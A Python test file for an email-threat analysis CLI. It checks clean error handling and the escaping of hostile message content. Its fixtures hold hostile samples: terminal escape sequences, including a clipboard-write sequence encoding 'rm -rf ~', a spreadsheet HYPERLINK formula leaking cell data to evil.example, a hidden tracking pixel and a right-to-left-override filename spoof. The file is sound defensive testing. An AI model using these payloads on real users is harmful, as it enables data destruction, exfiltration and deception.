"""The store and sharing commands (``hits``, ``show``, ``campaigns``, ``report``, ``export``, ``serve``)
on first contact with bad arguments and hostile data: a missing, corrupt, newer or directory store,
an unwritable output and out-of-range options each give one ``error:`` line and exit 2, never a
traceback; control characters from a hostile message never reach the analyst's terminal; a report
over a store of unreadable messages says so instead of looking all clean."""

from __future__ import annotations

import re
import sqlite3

import pytest
from conftest import make_hunt_db

from lurelens.testing import MessageBuilder

pytest.importorskip("sqlalchemy", reason="needs the hunt extra")

# ESC, BEL and the 8-bit CSI: what a terminal would act on.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")
HOSTILE_FROM = "Evil\x1b[31mRED\x1b]0;TITLE\x07\x9b2J"
HOSTILE_SUBJECT = "hi \x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07 cleared"


def cli(*args):
    from typer.testing import CliRunner

    from lurelens.adapters.cli import app

    r = CliRunner().invoke(app, [str(a) for a in args])
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    return r


def one_error_line(r) -> str:
    assert r.exit_code == 2, (r.exit_code, r.stdout, r.stderr)
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in r.stderr, r.stderr
    return lines[0]


def hostile_lure(i: int) -> bytes:
    return (MessageBuilder().header("From", f'"{HOSTILE_FROM}" <desk{i}@news-desk.example>')
            .header("To", f"r{i}@corp.example").subject(HOSTILE_SUBJECT)
            .header("Date", f"Mon, {i + 1} Dec 2026 10:00:00 +0000")
            .html('<p>Reuters exclusive: read the story</p>'
                  f'<img src="https://px.evil-metrics.example/o/{i}abcdef0123.gif" width="1" height="1" style="display:none">')
            .build())


@pytest.fixture(scope="module")
def stores(tmp_path_factory):
    d = tmp_path_factory.mktemp("stores")
    make_hunt_db(d / "good.db", [(f"box.mbox:{i}", hostile_lure(i)) for i in range(3)])
    make_hunt_db(d / "empty.db", [])
    newer = make_hunt_db(d / "newer.db", [])
    with sqlite3.connect(newer) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '0099_future'")
    broken = make_hunt_db(d / "broken.db", [])
    with sqlite3.connect(broken) as conn:  # at the newest revision, but a table is gone
        conn.execute("DROP TABLE messages")
    (d / "corrupt.db").write_bytes(b"this is not a database" * 50)
    (d / "adir").mkdir()
    from lurelens.store import Store
    from lurelens.store.rows import error_row

    errors = make_hunt_db(d / "errors.db", [])
    with Store(str(errors)) as st:
        st.write([error_row("box.mbox", f"box.mbox:{i}", None, "unreadable\nsecond line", 10) for i in range(3)])
    return d


@pytest.mark.parametrize("store, expect", [
    ("missing.db", "no store at"),
    ("corrupt.db", "not a database"),
    ("adir", "cannot open the store"),
    ("newer.db", "newer than this lurelens reads"),
    ("broken.db", "no such table"),
])
@pytest.mark.parametrize("command", [
    ["hits"], ["show", "1"], ["campaigns"], ["campaign", "c-x"], ["report", "-o", "{out}"],
    ["export", "--campaign", "c-x", "--pseudonym-key", "k", "-o", "{out}"],
])
def test_a_bad_store_is_one_error_line(stores, tmp_path, store, expect, command):
    args = [a.replace("{out}", str(tmp_path / "out")) for a in command]
    line = one_error_line(cli(*args, "--db", stores / store))
    assert expect in line
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("args, expect", [
    (["hits", "--verdict", "recno"], "--verdict is one of"),
    (["hits", "--limit", "-1"], "--limit must be at least 1"),
    (["hits", "--limit", "0"], "--limit must be at least 1"),
    (["show", "99999999999999999999"], "no message 99999999999999999999"),
    (["show", "0"], "no message 0"),
])
def test_bad_arguments_to_hits_and_show(stores, args, expect):
    assert expect in one_error_line(cli(*args, "--db", stores / "good.db"))


def test_verdict_names_any_case(stores):
    r = cli("hits", "--db", stores / "good.db", "--verdict", "RECON", "--verdict", "Phishing", "--json")
    assert r.exit_code == 0 and len(r.stdout.splitlines()) == 3


def test_unwritable_report_output(stores, tmp_path):
    for out, why in ((stores / "adir", "Is a directory"), (tmp_path / "no" / "such" / "dir.html", "No such file")):
        assert why in one_error_line(cli("report", "--db", stores / "empty.db", "-o", out))


@pytest.mark.parametrize("args, expect", [
    (["--port", "99999"], "not a TCP port"),
    (["--port", "-1"], "not a TCP port"),
    (["--workers", "0"], "at least 1"),
    (["--max-pending", "0"], "at least 1"),
    (["--request-timeout", "0"], "more than 0"),
    (["--db", "{missing}"], "no store at"),
    (["--db", "sqlite:///{missing}"], "no store at"),  # SQLite would create the file on the first query
])
def test_serve_refuses_bad_options_before_starting(tmp_path, monkeypatch, args, expect):
    api = pytest.importorskip("lurelens.adapters.api", reason="needs the serve extra")

    def started(*_a, **_k):  # a regression fails here instead of serving forever
        raise AssertionError("the server was started")

    monkeypatch.setattr(api, "run_server", started)
    args = [a.replace("{missing}", str(tmp_path / "missing.db")) for a in args]
    assert expect in one_error_line(cli("serve", *args))


def test_control_characters_never_reach_the_terminal(stores, tmp_path):
    eml = tmp_path / "lure.eml"
    eml.write_bytes(hostile_lure(0))
    outputs = {
        "scan": cli("scan", eml),
        "hits": cli("hits", "--db", stores / "good.db"),
        "show": cli("show", "1", "--db", stores / "good.db"),
        "campaigns": cli("campaigns", "--db", stores / "good.db"),
    }
    for name, r in outputs.items():
        assert r.exit_code in (0, 1), (name, r.stderr)
        assert not CONTROL.search(r.stdout), (name, repr(r.stdout[:400]))
    # Shown, not dropped: the analyst sees that the header carried an escape sequence.
    assert "\\x1b[2J" in outputs["scan"].stdout and "\\x1b[2J" in outputs["show"].stdout
    assert "hi \\x1b[2J" in outputs["hits"].stdout


def test_report_of_a_store_of_unreadable_messages_says_so(stores, tmp_path):
    pytest.importorskip("matplotlib", reason="needs the report extra")
    out = tmp_path / "r.html"
    r = cli("report", "--db", stores / "errors.db", "-o", out)
    assert r.exit_code == 0, r.stderr
    page = out.read_text()
    assert "<b>3</b>messages could not be scanned" in page
    assert "No campaign: no stored message is suspicious or worse." in page
    assert "base-uri 'none'; form-action 'none'" in page
    r = cli("report", "--db", stores / "empty.db", "-o", out)
    assert r.exit_code == 0 and "could not be scanned" not in out.read_text()


def test_report_title_with_undecodable_bytes(stores, tmp_path):
    """A title from argv holds a lone surrogate for each byte that is not UTF-8 (Python decodes argv
    with surrogateescape): the page is still written, with a replacement mark."""
    pytest.importorskip("matplotlib", reason="needs the report extra")
    out = tmp_path / "t.html"
    r = cli("report", "--db", stores / "empty.db", "-o", out, "--title", "Q3 \udcff hunt")
    assert r.exit_code == 0, r.stderr
    assert "<title>Q3 ? hunt</title>" in out.read_text(encoding="utf-8")


def test_csv_cells_from_mail_are_never_formulas(tmp_path):
    """A subject like ``=HYPERLINK(...)`` in ``scan --format csv`` or a token in the watchlist would be
    run as a formula by the spreadsheet the analyst opens the file in: such cells start with ``'``."""
    import csv
    import io

    from lurelens.report.campaigns import watchlist_csv

    eml = tmp_path / "f.eml"
    eml.write_bytes(MessageBuilder().header("From", "x@evil.example").subject('=HYPERLINK("https://evil.example/?"&A1,"open")')
                    .text("hello there\r\n").build())
    r = cli("scan", "--format", "csv", eml)
    (row,) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["subject"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    rows = list(csv.DictReader(io.StringIO(watchlist_csv([{"campaign": "C-1", "host": "px.example", "token": "=1+2",
                                                           "recipient": "@SUM(A1)", "url": "-x", "message": 3}]))))
    assert (rows[0]["token"], rows[0]["recipient"], rows[0]["url"], rows[0]["message"]) == ("'=1+2", "'@SUM(A1)", "'-x", "3")
    assert rows[0]["host"] == "px.example"  # plain values untouched


def test_a_store_url_error_never_shows_the_password():
    line = one_error_line(cli("hits", "--db", "postgresql://hunter:s3cret-pw@127.0.0.1:1/lurelens"))
    assert "s3cret-pw" not in line and "hunter:***@127.0.0.1" in line


# Bidirectional controls: U+202E (right-to-left override) makes "fdp.exe" read "exe.pdf" on a terminal.
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ARABIC, HEBREW = "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd"  # ordinary right-to-left words


def bidi_lure() -> bytes:
    return (MessageBuilder().header("From", f'"Invoice \u202efdp.exe {ARABIC}" <desk@news-desk.example>')
            .header("To", "r@corp.example").subject(f"{HEBREW} \u2067x\u2069 \u200fnote \u061c\u202aend\u202c")
            .html('<p>read the story</p><img src="https://px.evil-metrics.example/o/abcdef0123.gif" width="1" height="1" style="display:none">')
            .build())


def test_bidi_controls_are_shown_escaped_in_text_and_csv(tmp_path):
    import csv
    import io
    import json

    eml = tmp_path / "bidi.eml"
    eml.write_bytes(bidi_lure())
    db = make_hunt_db(tmp_path / "bidi.db", [("box.mbox:0", bidi_lure())])
    outputs = {"scan": cli("scan", eml), "csv": cli("scan", "--format", "csv", eml),
               "hits": cli("hits", "--db", db), "show": cli("show", "1", "--db", db)}
    for name, r in outputs.items():
        assert r.exit_code in (0, 1), (name, r.stderr)
        assert not BIDI.search(r.stdout), (name, repr(r.stdout[:600]))
    # Shown, not dropped, and ordinary Arabic and Hebrew text is left as it is.
    for name in ("scan", "show"):
        assert f"Invoice \\u202efdp.exe {ARABIC}" in outputs[name].stdout, name
        assert f"{HEBREW} \\u2067x\\u2069 \\u200fnote \\u061c\\u202aend\\u202c" in outputs[name].stdout, name
    assert f"{HEBREW} \\u2067x" in outputs["hits"].stdout
    (row,) = list(csv.DictReader(io.StringIO(outputs["csv"].stdout)))
    assert row["subject"] == f"{HEBREW} \\u2067x\\u2069 \\u200fnote \\u061c\\u202aend\\u202c"
    # JSON is data: the real characters, as the message has them.
    (obj,) = [json.loads(line) for line in cli("scan", "--json", eml).stdout.splitlines()]
    assert obj["sender"]["subject"] == f"{HEBREW} \u2067x\u2069 \u200fnote \u061c\u202aend\u202c"
    hit = json.loads(cli("hits", "--db", db, "--json").stdout.splitlines()[0])
    assert hit["sender"]["subject"] == obj["sender"]["subject"] and "\u202efdp.exe" in hit["sender"]["from"][0]["name"]


# -- read commands never create, upgrade or write the store ---------------------------------------

READ_COMMANDS = [["hits"], ["show", "1"], ["campaigns"], ["campaign", "c-x"], ["report", "-o", "{out}"],
                 ["watchlist", "--campaign", "c-x"], ["export", "--campaign", "c-x", "--pseudonym-key", "k", "-o", "{out}"]]


@pytest.mark.parametrize("form", ["path", "url"])
@pytest.mark.parametrize("command", READ_COMMANDS)
def test_a_read_command_never_creates_a_store(tmp_path, monkeypatch, command, form):
    monkeypatch.chdir(tmp_path)
    db = "typo.db" if form == "path" else f"sqlite:///{tmp_path / 'typo.db'}"
    args = [a.replace("{out}", str(tmp_path / "out")) for a in command]
    line = one_error_line(cli(*args, "--db", db))
    assert line == f"error: no store at {db} (lurelens hunt SOURCE --db {db} makes one)"
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no typo.db, no -wal, no output


def _downgrade(path, revision: str) -> None:
    """The store as an older lurelens left it: the same messages, the schema at ``revision``."""
    from alembic import command

    from lurelens.store import Store
    from lurelens.store.store import _revisions

    cfg = _revisions()[0]
    with Store(str(path)) as st, st.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, revision)


def _digest(path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_read_commands_read_an_older_store_without_upgrading_it(tmp_path):
    import json

    from lurelens.store import Store

    db = make_hunt_db(tmp_path / "old.db", [(f"box.mbox:{i}", hostile_lure(i)) for i in range(3)])
    _downgrade(db, "0001")
    before = _digest(db)
    # hits and show need only what revision 0001 has: they read it as it is.
    r = cli("hits", "--db", db, "--json")
    assert r.exit_code == 0 and len(r.stdout.splitlines()) == 3, r.stderr
    assert {json.loads(x)["verdict"] for x in r.stdout.splitlines()} == {"recon"}
    assert cli("show", "1", "--db", db).exit_code == 1
    # The campaign commands need the newest schema: one line naming the command that upgrades it.
    line = one_error_line(cli("campaigns", "--db", db))
    assert line == (f"error: the store {db} is at schema revision 0001; lurelens campaigns needs 0003 and never upgrades "
                    f"a store: lurelens migrate --db {db} does (stored messages are kept)")
    assert "lurelens report needs 0003" in one_error_line(cli("report", "--db", db, "-o", tmp_path / "r.html"))
    with Store(str(db)) as st:
        assert st.revision() == "0001"
    assert _digest(db) == before  # not one byte written
    # What the message says works: migrate upgrades the store and keeps its messages; run again, it
    # has nothing to do.
    r = cli("migrate", "--db", db)
    assert r.exit_code == 0 and r.stdout.strip() == f"store {db}: schema revision 0001 -> 0003; stored messages kept", r.stderr
    r = cli("campaigns", "--db", db, "--json")
    assert r.exit_code == 0 and sum(json.loads(x)["messages"] for x in r.stdout.splitlines()) == 3, r.stderr
    r = cli("migrate", "--db", db)
    assert r.exit_code == 0 and "nothing to do" in r.stdout, r.stderr
    # A hunt upgrades an older store as well (of an empty directory here: nothing new is stored).
    _downgrade(db, "0001")
    (tmp_path / "empty").mkdir()
    r = cli("hunt", tmp_path / "empty", "--db", db, "-j", "1")
    assert r.exit_code == 0, r.stderr
    with Store(str(db)) as st:
        assert st.revision() == "0003" and st.count() == 3


def test_migrate_never_creates_a_store(tmp_path):
    """The near miss: migrate on a path with no store says so in one line and leaves no file."""
    missing = tmp_path / "typo.db"
    for db in (str(missing), f"sqlite:///{missing}"):
        line = one_error_line(cli("migrate", "--db", db))
        assert line.startswith(f"error: no store at {db}") and not missing.exists()


def test_a_store_at_the_newest_revision_is_read_without_a_write(tmp_path):
    """The near miss: a current store is read as before, and a read opens it read-only."""
    from lurelens.store import Store

    db = make_hunt_db(tmp_path / "new.db", [(f"box.mbox:{i}", hostile_lure(i)) for i in range(2)])
    before = _digest(db)
    assert cli("hits", "--db", f"sqlite:///{db}").exit_code == 0
    assert cli("show", "2", "--db", db).exit_code == 1
    assert _digest(db) == before
    with Store(str(db), readonly=True) as st:
        assert st.check(need_head=True).count() == 2
        with pytest.raises(Exception, match="readonly"):
            st.write([dict(st.get(1), id=None)])


@pytest.mark.services
def test_a_read_command_on_postgresql_never_creates_the_schema(postgres_server):
    import hashlib

    from sqlalchemy import inspect

    from lurelens import Scanner
    from lurelens.store import Store
    from lurelens.store.rows import message_row

    url = postgres_server()
    line = one_error_line(cli("hits", "--db", url))
    assert line.startswith("error: cannot open the store postgresql://") and line.endswith("no lurelens store in it (no schema revision)")
    assert one_error_line(cli("campaigns", "--db", url)).endswith("no lurelens store in it (no schema revision)")
    with Store(url) as st:
        assert inspect(st.engine).get_table_names() == []  # nothing was created
        st.migrate()
        raw = hostile_lure(0)
        st.write([message_row("box.mbox", "box.mbox:0", hashlib.sha256(raw).hexdigest(), len(raw), Scanner().scan(raw))])
    r = cli("hits", "--db", url, "--json")
    assert r.exit_code == 0 and len(r.stdout.splitlines()) == 1, r.stderr
    with Store(url, readonly=True) as st:
        with pytest.raises(Exception, match="read-only transaction"):
            st.begin_run(["x"], {})
